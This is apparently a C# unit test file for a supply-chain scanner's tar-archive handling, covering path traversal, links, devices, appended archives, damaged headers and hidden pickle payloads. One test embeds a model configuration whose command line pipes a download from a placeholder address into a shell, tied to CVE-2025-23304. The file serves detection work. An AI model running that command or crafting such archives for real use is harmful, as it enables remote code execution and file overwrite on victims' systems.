using SupplyChainAnalyzers.Core.Findings;
using SupplyChainAnalyzers.Scanner.Formats.Tar;
using SupplyChainAnalyzers.Scanner.Input;
using SupplyChainAnalyzers.Scanner.Tests.Formats.Zip;
using SupplyChainAnalyzers.Scanner.Tests.Scanning;
using TarEntryFormat = System.Formats.Tar.TarEntryFormat;
using TarEntryType = System.Formats.Tar.TarEntryType;
using TarWriter = System.Formats.Tar.TarWriter;
using UstarTarEntry = System.Formats.Tar.UstarTarEntry;

namespace SupplyChainAnalyzers.Scanner.Tests.Formats.Tar;

public class TarScannerTests
{
    [Theory]
    [InlineData("ustar.tar")]
    [InlineData("gnu.tar")]
    [InlineData("pax.tar")]
    public void Archive_of_texts_is_clean(string name) => Assert.Equal(Verdict.Clean, Scanned.Bytes(SampleFile.Read("containers", name)).Verdict);

    [Theory]
    [InlineData("gnu.tar", "u.txt")]
    [InlineData("pax.tar", "ü.txt")]
    public void Long_and_foreign_names_are_read(string sample, string second)
    {
        var reader = new TarReader(new MemorySource(SampleFile.Read("containers", sample)), ZipReaderTests.Context(out _));
        var names = reader.Entries().Select(static entry => entry.Name).ToList();
        Assert.Equal(["plain.txt", second, string.Concat(Enumerable.Repeat("folder/", 20)) + "name.txt", "link.txt"], names);
    }

    [Fact]
    public void Payload_in_any_member_is_malicious() => Assert.Equal(Verdict.Malicious, Scanned.Bytes(Samples.TarOf(("a.txt", Samples.Text("words")), ("b", Samples.TextPickle))).Verdict);

    [Theory]
    [InlineData("../a")]
    [InlineData("/etc/a")]
    [InlineData("a/../../b")]
    public void Member_that_leads_out_of_the_folder_is_malicious(string name) => Assert.Equal(Verdict.Malicious, Scanned.Bytes(Samples.TarOf((name, Samples.Text("words")))).Verdict);

    [Theory]
    [InlineData(TarEntryType.SymbolicLink, "a/l", "../b", Verdict.Clean)]
    [InlineData(TarEntryType.SymbolicLink, "a/l", "../../b", Verdict.Malicious)]
    [InlineData(TarEntryType.SymbolicLink, "l", "/etc", Verdict.Malicious)]
    [InlineData(TarEntryType.HardLink, "a/l", "../b", Verdict.Malicious)]
    [InlineData(TarEntryType.HardLink, "a/l", "b", Verdict.Clean)]
    [InlineData(TarEntryType.CharacterDevice, "null", "", Verdict.Malicious)]
    [InlineData(TarEntryType.Fifo, "pipe", "", Verdict.Malicious)]
    public void Links_and_devices_are_judged_by_where_they_lead(TarEntryType kind, string name, string target, Verdict verdict) => Assert.Equal(verdict, Scanned.Bytes(With(kind, name, target)).Verdict);

    [Fact]
    public void Member_written_through_a_link_is_told()
    {
        byte[] bytes = [.. With(TarEntryType.SymbolicLink, "l", "a")[..512], .. Samples.TarOf(("l/x", Samples.Text("words")))];
        Assert.Contains(Rules.EscapingMember, Scanned.Bytes(bytes).Doubts);
    }

    [Fact]
    public void Archive_behind_the_end_mark_is_told_and_scanned()
    {
        var scanned = Scanned.Bytes([.. Samples.TarOf(("a", Samples.Text("words"))), .. Samples.TarOf(("b", Samples.TextPickle))]);
        Assert.Contains(Rules.AmbiguousArchive, scanned.Doubts);
        Assert.Equal(Verdict.Malicious, scanned.Verdict);
    }

    [Fact]
    public void Payload_behind_a_broken_header_is_found()
    {
        var bytes = Samples.TarOf(("a", Samples.Text("words")), ("b", Samples.Text("words")), ("c", Samples.TextPickle));
        bytes[1024 + 150] ^= 1;
        Assert.Equal(Verdict.Malicious, Scanned.Bytes(bytes).Verdict);
    }

    [Fact]
    public void Cut_archive_is_never_clean() => Assert.NotEqual(Verdict.Clean, Scanned.Bytes(Samples.TarOf(("a", new byte[5000]))[..2000]).Verdict);

    [Theory]
    [InlineData("00000000013 ", 11)]
    [InlineData("      13 ", 11)]
    [InlineData("13\0garbage", 11)]
    [InlineData("9", -1)]
    public void Octal_numbers_are_read(string field, long value) => Assert.Equal(value, TarHeader.Number(Samples.Text(field)));

    [Fact]
    public void Binary_numbers_are_read()
    {
        Assert.Equal(0x123456789L, TarHeader.Number([0x80, 0, 0, 0, 0, 0, 0, 1, 0x23, 0x45, 0x67, 0x89]));
        Assert.Equal(-1, TarHeader.Number([0x80, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF]));
    }

    [Fact]
    public void CVE_2025_23304_target_in_a_NeMo_configuration_is_malicious()
    {
        var bytes = Samples.TarOf(("./model_config.yaml", Samples.Text("model:\n  _target_: os.system\n  command: curl http://203.0.113.9/x | sh\n")), ("./model_weights.ckpt", Samples.PyTorch));
        Assert.Equal("nemo", Scanned.Bytes(bytes, "m.nemo").Format.Id);
        Assert.Equal(Verdict.Malicious, Scanned.Bytes(bytes, "m.nemo").Verdict);
    }

    [Fact]
    public void Mutations_are_scanned_and_nothing_else()
    {
        var random = new Random(12);
        foreach (var name in new[] { "ustar.tar", "gnu.tar", "pax.tar" })
        {
            for (var round = 0; round < 800; round++)
                Mutated.Scan(SampleFile.Read("containers", name), random);
        }
    }

    private static byte[] With(TarEntryType kind, string name, string target)
    {
        using var stream = new MemoryStream();
        using (var writer = new TarWriter(stream, TarEntryFormat.Ustar))
        {
            var entry = new UstarTarEntry(kind, name);
            if (target.Length > 0)
                entry.LinkName = target;
            writer.WriteEntry(entry);
        }

        return stream.ToArray();
    }
}
